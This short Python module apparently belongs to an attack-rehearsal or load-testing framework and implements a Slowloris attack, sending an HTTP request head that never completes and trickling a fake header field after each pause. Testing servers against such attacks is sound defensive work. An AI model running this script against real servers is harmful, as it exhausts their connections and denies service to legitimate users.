"""Slow heads (Slowloris): a request whose head never ends, a field now and then."""

from __future__ import annotations

from collections.abc import Iterator

from rostra.rehearsal.attacks.steps import Aim, Pause, Send, Step


def script(aim: Aim, number: int) -> Iterator[Step]:
    yield Send(aim.get(f"{aim.target.path}/live")[:-2])
    for field in range(10_000):
        yield Pause(aim.plan.pause_s)
        yield Send(f"X-{aim.word(number, 4)}-{field}: {field}\r\n".encode())
